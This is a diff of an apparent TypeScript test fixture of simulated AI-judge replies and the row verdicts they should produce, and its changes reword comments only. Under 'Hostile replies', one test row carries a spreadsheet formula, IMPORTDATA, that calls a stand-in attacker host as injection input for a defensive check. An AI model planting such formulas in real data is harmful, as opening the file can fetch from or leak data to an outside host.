@@ -1,4 +1,4 @@
-/** What a judge of any quality, a proxy before it, or whoever is in between may send back, and what the row must come to. */
+/** What a judge of any quality, a proxy, or anything in between may send back, and what must become of the row. */
 
 /** What the server sends: an HTTP reply, or nothing at all. */
 export type Sent =
@@ -7,7 +7,7 @@ export type Sent =
 
 export interface JudgeReply {
   readonly what: string;
-  /** The first reply, the second, … ; the last one again and again. */
+  /** The first reply, the second, …; the last one repeats. */
   readonly sent: readonly Sent[];
   /** The row's verdict, and its error or the reason of its score. */
   readonly verdict: 'pass' | 'fail' | 'error' | 'needs_judge';
@@ -72,7 +72,7 @@ export const JUDGE_REPLIES: readonly JudgeReply[] = [
     /says the same/,
   ),
   row('with a byte order mark', completion(`\ufeff${verdict(1)}`), 'pass', /says the same/),
-  // What is no verdict.
+  // Not a verdict.
   row('no JSON', completion('The answer is right.'), 'error', FORM, 2),
   row('nothing', completion(''), 'error', EMPTY, 2),
   row('null for a message', completion(null), 'error', EMPTY, 2),
@@ -158,7 +158,7 @@ export const JUDGE_REPLIES: readonly JudgeReply[] = [
     /^the provider’s content filter withheld the verdict$/,
     1,
   ),
-  // Mended at the second time.
+  // Right at the second try.
   row('prose, then a verdict', [completion('Right.'), GOOD], 'pass', /says the same/, 2),
   row('a score of 2, then a verdict', [completion(verdict(2)), GOOD], 'pass', /says the same/, 2),
   row('a gateway that is busy, then a verdict', [html(503), GOOD], 'pass', /says the same/, 2),
@@ -177,7 +177,7 @@ export const JUDGE_REPLIES: readonly JudgeReply[] = [
     /says the same/,
     2,
   ),
-  // What is no reply of a model.
+  // Not a model's reply.
   row('a page with 200', html(200), 'error', NO_JSON, 3),
   row(
     'a page with 502',
@@ -224,7 +224,7 @@ export const JUDGE_REPLIES: readonly JudgeReply[] = [
     3,
   ),
   row('DNS error', { failure: 'DNS error: x' }, 'error', /^the judge could not be reached: DNS error: x$/, 3),
-  // What means harm.
+  // Hostile replies.
   row(
     'a formula for a reason',
     completion(verdict(1, '=IMPORTDATA("https://evil.example")')),
